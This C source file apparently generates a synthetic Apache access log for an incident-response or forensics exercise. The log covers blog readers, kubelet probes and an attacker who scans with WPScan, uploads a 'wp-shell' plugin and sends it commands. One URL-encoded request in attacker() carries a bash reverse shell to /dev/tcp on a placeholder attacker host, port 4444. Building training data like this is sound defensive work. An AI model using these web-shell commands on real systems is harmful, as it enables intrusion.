/* SPDX-License-Identifier: Apache-2.0 */
/*
 * apache.c - the wordpress pod's Apache access log: combined format with %O (Debian's
 * default), client address from mod_remoteip (the official image logs %a, the address in
 * X-Forwarded-For set by the load balancer). Readers replay the flow log's visits, kubelet
 * probes come from the node; the attacker's scan, wp-admin login, the wp-shell plugin upload
 * and the commands sent to it. Rotated by logrotate at 06:25 (gzip'd older part).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "gz.h"
#include "out.h"
#include "rng.h"
#include "timefmt.h"
#include "world.h"

#define UA_PROBE "kube-probe/1.30"
#define UA_WPSCAN "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"
#define UA_ATT "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0"
#define NONCE "8f2c1e4a7b"

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers; )",
};

static const char *const pages[] = {
    "/", "/2026/10/kubernetes-cost-tips/", "/2026/10/helm-chart-testing/",
    "/2026/09/backup-strategies-for-mysql/", "/category/devops/", "/about/", "/feed/",
    "/?s=terraform", "/2026/08/observability-on-a-budget/", "/page/2/",
};

static const char *const assets[] = {
    "/wp-content/themes/twentytwentyfour/style.css?ver=1.2",
    "/wp-includes/css/dist/block-library/style.min.css?ver=6.6.2",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-content/uploads/2026/10/cluster-diagram.png",
    "/wp-content/uploads/2026/09/backup-flow-768x432.png",
    "/wp-content/themes/twentytwentyfour/assets/fonts/inter/Inter-VariableFont_slnt,wght.woff2",
    "/wp-includes/js/wp-emoji-release.min.js?ver=6.6.2",
    "/favicon.ico",
};

/* One access log line; t in microseconds (Apache logs the time the request arrived). */
static void web(int64_t t, const char *ip, const char *method, const char *target, int status,
               long bytes, const char *ref, const char *ua, int note_i)
{
    char ts[TF_LEN], line[1400];
    int n = snprintf(line, sizeof line, "%s - - [%s] \"%s %s HTTP/1.1\" %d %ld \"%s\" \"%s\"",
                     ip, tf_clf(ts, t / 1000000), method, target, status, bytes, ref, ua);

    if (n < 0 || (size_t)n >= sizeof line)
        die("internal: access log line too long");
    recs_push(&g_web, t, note_i, line, (size_t)n);
}

static void readers(void)
{
    char ref[200];

    for (size_t i = 0; i < n_visits; i++) {
        const struct visit *v = &visits[i];
        const char *ua = browsers[rng_n(sizeof browsers / sizeof browsers[0])];
        const char *page = pages[rng_n(sizeof pages / sizeof pages[0])];
        int64_t t = v->t * 1000000 + (int64_t)rng_n(900000);
        int n_assets = strstr(ua, "bot") || strstr(ua, "Feedly") || strcmp(page, "/feed/") == 0
                           ? 0 : (int)rng_range(2, 6);

        web(t, v->client, "GET", page, 200, 14000 + (long)rng_n(52000), "-", ua, -1);
        snprintf(ref, sizeof ref, "https://" SITE "%s", page);
        for (int k = 0; k < n_assets; k++) {
            int64_t ta = t + 150000 + (int64_t)rng_n((uint64_t)(v->dur * 1000000 + 1));
            int cached = rng_n(4) == 0;
            const char *asset = assets[rng_n(sizeof assets / sizeof assets[0])];
            long size = 2800 + (long)rng_n(180000); /* one draw per statement */

            web(ta, v->client, "GET", asset, cached ? 304 : 200, cached ? 246 : size, ref, ua,
                -1);
        }
    }
}

/* kubelet's liveness and readiness probes: from the node, no X-Forwarded-For. */
static void probes(void)
{
    EVERY(t, g_day, g_day + 86400, 20) {
        int64_t us = t * 1000000 + (int64_t)rng_n(1000000);

        web(us, nodes[0].ip, "GET", "/wp-login.php", 200, 4521 + (long)rng_n(40), "-", UA_PROBE,
            -1);
    }
}

static void attacker(void)
{
    static const char *const scan[] = {
        "/", "/readme.html", "/wp-login.php", "/xmlrpc.php", "/wp-json/wp/v2/users",
        "/wp-json/oembed/1.0/embed?url=https%3A%2F%2F" SITE "%2F", "/wp-content/plugins/",
        "/wp-content/debug.log", "/.env", "/wp-config.php.bak", "/wp-admin/install.php",
        "/wp-content/plugins/akismet/readme.txt", "/wp-content/plugins/contact-form-7/readme.txt",
        "/wp-includes/version.php", "/?author=1", "/wp-cron.php",
    };
    static const int scan_status[] = { 200, 200, 200, 405, 200, 200, 200, 404, 404, 404, 302,
                                       200, 200, 200, 301, 200 };
    const char *sh = SHELL_PATH;
    char target[400];
    int n;

    /* 1. the scan: four connections, 13:02:05-13:05:22 */
    for (int i = 0; i < 64; i++) {
        int conn = i / 16, k = i % 16;
        int64_t t = (at(13, 2, 6) + conn * 47) * 1000000 + k * 2300000 + (int64_t)rng_n(400000);

        n = i == 0 ? wp_note(t / 1000000, 1, "apache-access",
                          "scan of the blog by %s with WPScan (64 requests: users API, "
                          "readme files, plugins)", ATTACKER) : -1;
        long size = scan_status[k] == 404 ? 196 : 3400 + (long)rng_n(9000);

        web(t, ATTACKER, "GET", scan[k], scan_status[k], size, "-", UA_WPSCAN, n);
    }
    /* 2. wp-admin login and the plugin upload */
    n = wp_note(at(13, 6, 21), 2, "apache-access",
             "%s logs in to wp-admin: POST /wp-login.php answered 302 to /wp-admin/", ATTACKER);
    web(at(13, 6, 13) * 1000000 + 402117, ATTACKER, "GET", "/wp-login.php", 200, 4563, "-",
        UA_ATT, -1);
    web(at(13, 6, 21) * 1000000 + 88310, ATTACKER, "POST", "/wp-login.php", 302, 1274,
        "https://" SITE "/wp-login.php", UA_ATT, n);
    web(at(13, 6, 22) * 1000000 + 10452, ATTACKER, "GET", "/wp-admin/", 200, 58110,
        "https://" SITE "/wp-login.php", UA_ATT, -1);
    web(at(13, 6, 40) * 1000000 + 700213, ATTACKER, "GET", "/wp-admin/plugin-install.php", 200,
        91877, "https://" SITE "/wp-admin/", UA_ATT, -1);
    web(at(13, 6, 44) * 1000000 + 301954, ATTACKER, "GET",
        "/wp-admin/plugin-install.php?tab=upload", 200, 44019,
        "https://" SITE "/wp-admin/plugin-install.php", UA_ATT, -1);
    n = wp_note(at(13, 7, 2), 2, "apache-access",
             "upload of the plugin %s: POST /wp-admin/update.php?action=upload-plugin from %s",
             SHELL_ZIP, ATTACKER);
    web(at(13, 7, 2) * 1000000 + 517640, ATTACKER, "POST",
        "/wp-admin/update.php?action=upload-plugin", 200, 6932,
        "https://" SITE "/wp-admin/plugin-install.php?tab=upload", UA_ATT, n);
    n = wp_note(at(13, 7, 10), 2, "apache-access", "activation of the plugin wp-shell");
    web(at(13, 7, 10) * 1000000 + 236001, ATTACKER, "GET",
        "/wp-admin/plugins.php?action=activate&plugin=wp-shell%2Fwp-shell.php&_wpnonce=" NONCE,
        302, 1188, "https://" SITE "/wp-admin/update.php?action=upload-plugin", UA_ATT, n);
    web(at(13, 7, 11) * 1000000 + 19733, ATTACKER, "GET",
        "/wp-admin/plugins.php?activate=true&plugin_status=all&paged=1&s=", 200, 77301,
        "https://" SITE "/wp-admin/update.php?action=upload-plugin", UA_ATT, -1);
    /* 2b. the web shell */
    n = wp_note(at(13, 8, 41), 2, "apache-access", "first request to the web shell %s (cmd=id)",
             sh);
    snprintf(target, sizeof target, "%s?cmd=id", sh);
    web(at(13, 8, 41) * 1000000 + 330251, ATTACKER, "GET", target, 200, 283, "-", UA_ATT, n);
    snprintf(target, sizeof target, "%s?cmd=uname%%20-a%%3Bls%%20-la%%20%%2Fvar%%2Frun", sh);
    web(at(13, 8, 49) * 1000000 + 14502, ATTACKER, "GET", target, 200, 1377, "-", UA_ATT, -1);
    n = wp_note(at(13, 9, 1), 3, "apache-access",
             "the web shell starts the reverse shell to %s:4444", ATTACKER);
    snprintf(target, sizeof target,
             "%s?cmd=nohup%%20bash%%20-c%%20%%27bash%%20-i%%20%%3E%%26%%20%%2Fdev%%2Ftcp%%2F"
             ATTACKER "%%2F4444%%200%%3E%%261%%27%%20%%3E%%2Fdev%%2Fnull%%202%%3E%%261"
             "%%20%%26", sh);
    web(at(13, 9, 1) * 1000000 + 802744, ATTACKER, "GET", target, 200, 227, "-", UA_ATT, n);
}

void gen_web(void)
{
    readers();
    probes();
    attacker();
}

void write_web(void)
{
    struct sb cur = { 0 }, old = { 0 };
    int64_t rot = at(6, 25, 3) * 1000000;
    size_t lines[2] = { 0, 0 };

    qsort(g_web.v, g_web.n, sizeof *g_web.v, rec_cmp);
    for (size_t i = 0; i < g_web.n; i++) {
        int live = g_web.v[i].key >= rot;
        struct sb *b = live ? &cur : &old;

        sb_add(b, g_web.v[i].s, g_web.v[i].n);
        sb_add(b, "\n", 1);
        lines[live]++;
        if (g_web.v[i].note >= 0)
            snprintf(notes[g_web.v[i].note].where, sizeof notes[0].where, "%s line %zu",
                     live ? WP_LOG_DIR "/access.log" : WP_LOG_DIR "/access.log.1.gz",
                     lines[live]);
    }
    gz_file(WP_LOG_DIR "/access.log.1.gz", old.p ? old.p : "", old.n);
    out_file(WP_LOG_DIR "/access.log", cur.p ? cur.p : "", cur.n);
    free(old.p);
    free(cur.p);
}
